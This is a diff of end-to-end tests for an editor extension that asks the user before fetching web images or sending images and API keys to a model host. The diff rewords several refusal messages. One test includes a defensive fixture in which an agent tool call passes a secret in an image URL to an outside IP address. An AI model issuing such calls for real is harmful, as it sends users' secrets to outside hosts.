@@ -61,7 +61,7 @@ test('an image of the web is fetched after a question that names the host and th
   await workbench().screenshot('test/output/e2e/fetch-question.png');
   expect(seen).toEqual([]);
   await workbench().answer(/Fetch an image from 8\.8\.8\.8\?/, 'Cancel');
-  await answer().getByText('t.png was not fetched.').waitFor();
+  await answer().getByText('t.png wasn’t fetched.').waitFor();
   expect(seen).toEqual([]);
   await answer().getByRole('button', { name: 'Try Again' }).click();
   await workbench().answer(/Fetch an image from 8\.8\.8\.8\?/, 'Fetch');
@@ -87,14 +87,14 @@ test('the images of a document are asked about once, with all their hosts', asyn
   expect(seen).toEqual([]);
   await workbench().answer(/Fetch 2 images from 2 hosts\?/, 'Cancel');
   await workbench()
-    .notification(/was not fetched/)
+    .notification(/wasn’t fetched/)
     .waitFor();
   expect(seen).toEqual([]);
 });
 
 test('an agent’s image of the web is asked about by its host when the call runs', async () => {
   const call = () => workbench().callTool('sightread_read_text', { image: 'http://8.8.8.8/agent.png?d=SECRET' });
-  const refused = expect(call()).rejects.toThrow(/agent\.png was not fetched/);
+  const refused = expect(call()).rejects.toThrow(/agent\.png wasn’t fetched/);
   const question = workbench().notification(/Fetch an image from 8\.8\.8\.8\?/);
   await question.getByText('http://8.8.8.8/agent.png?d=SECRET').waitFor();
   expect(seen).toEqual([]);
@@ -158,14 +158,14 @@ test('no key is shown to anybody before the question, and none over a connection
     .waitFor();
   expect(seen).toEqual([]);
   await workbench().answer(/Send logo\.png to llm\.example\?/, 'Cancel');
-  await answer().getByText('The image was not sent.').waitFor();
+  await answer().getByText('The image wasn’t sent.').waitFor();
   expect(seen).toEqual([]);
 
   await work('http://llm.example/v1');
   await workbench().chooseFromMenu('logo.png', 'Describe Image');
   await workbench().answer(/Send logo\.png to llm\.example\?/, 'Send');
   await answer()
-    .getByText(/The API key was not sent: the connection to llm\.example is not encrypted/)
+    .getByText(/The API key wasn’t sent, because the connection to llm\.example isn’t encrypted/)
     .waitFor();
   expect(seen.join()).not.toContain('sk-work-secret');
 });
